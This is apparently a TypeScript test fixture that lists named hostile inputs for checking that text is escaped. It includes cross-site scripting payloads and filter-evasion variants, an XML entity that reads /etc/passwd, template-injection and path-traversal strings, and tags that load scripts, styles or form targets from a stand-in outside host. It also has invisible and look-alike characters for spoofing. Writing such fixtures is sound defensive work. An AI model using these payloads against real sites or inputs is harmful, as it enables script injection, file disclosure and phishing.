const call = 'globalThis.attacked=1';

/** What could do harm where it is not taken for words, by what it tries. Every script that ran would set `attacked`. */
export const ATTACKS: Readonly<Record<string, string>> = {
  'a script': `</title></textarea></style><script>${call}</script>`,
  'a script from elsewhere': '<script src=//elsewhere.example/x.js></script>',
  'a script within a script': `<scr<script>ipt>${call}</scr</script>ipt>`,
  'a picture with a handler': `<img src=x onerror=${call}>`,
  'a drawing with a handler': `<svg/onload=${call}><animate onbegin=${call} attributeName=x>`,
  'a drawing with a link': `<svg><a xlink:href=javascript:${call}><text y=9>press</text></a></svg>`,
  'an attribute broken out of, double': `x" autofocus tabindex=1 onfocus="${call}`,
  'an attribute broken out of, single': `x' autofocus tabindex=1 onfocus='${call}`,
  'an attribute broken out of, bare': `x onmouseover=${call} y=`,
  'a javascript address': `javascript:${call}`,
  'a javascript address in disguise': `java&#x73;cript&colon;${call}`,
  'a javascript address after a line': `https://example.org/%0ajavascript:${call}`,
  'a data address': `data:text/html,<script>${call}</script>`,
  'an address with another in it': `https://example.org/'onclick='${call}`,
  'a frame': `<iframe srcdoc='<script>parent.${call}</script>'></iframe>`,
  'a form elsewhere': '<form action=//elsewhere.example><button>Send</button></form>',
  'a refresh': '<meta http-equiv=refresh content=0;url=//elsewhere.example>',
  'another base': '<base href=//elsewhere.example/>',
  'a style that calls home':
    '<style>@import url(//elsewhere.example/x.css);*{background:url(//elsewhere.example)}</style>',
  'an end of JSON': `</script><script>${call}//`,
  'an end of a JSON string': `\\"});${call};({\\"`,
  'an end of a comment': `--><script>${call}</script><!--`,
  'an end of character data': `]]><script xmlns='http://www.w3.org/1999/xhtml'>${call}</script><![CDATA[`,
  'an entity of its own': "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  'a template': `\${${call}} {{${call}}} <%= ${call} %> #{${call}}`,
  'a way out of the folder': '../../../../escaped',
  'a way out of the folder, encoded': '..%2f..%2f..%5c..%5cescaped',
  'a way to the root': '/etc/escaped.html',
  'a name that objects have': '__proto__',
  'letters that look alike': 'mіrа-sоl',
  'a word without end': 'W'.repeat(110),
  'marks without end': `Z${'\u0301'.repeat(40)}`,
};

/** Characters nobody sees, by name. */
export const UNSEEN: Readonly<Record<string, string>> = {
  'a right-to-left override': 'safe\u202egnp.exe',
  'an isolate that does not end': 'safe\u2067 words',
  'a zero-width space': 'sa\u200bfe',
  'a word joiner': 'sa\u2060fe',
  'a byte-order mark': 'sa\ufefffe',
  'a NUL': 'sa\u0000fe',
  'a tag character': 'safe\u{e0041}\u{e007f}',
};
